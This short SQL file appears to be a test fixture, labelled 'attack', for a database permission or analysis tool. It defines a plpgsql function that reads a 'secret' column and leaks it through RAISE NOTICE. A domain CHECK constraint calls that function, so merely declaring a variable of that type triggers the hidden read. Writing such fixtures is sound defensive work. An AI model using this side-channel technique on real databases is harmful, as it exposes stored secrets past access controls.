-- Declares a variable of the type of an own column, which is a domain whose check reads.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE));
CREATE TABLE quiet (a int, b told);
DO $$ DECLARE v quiet.b%TYPE; r quiet%ROWTYPE; BEGIN v := 'x'; r.b := 'y'; END $$;
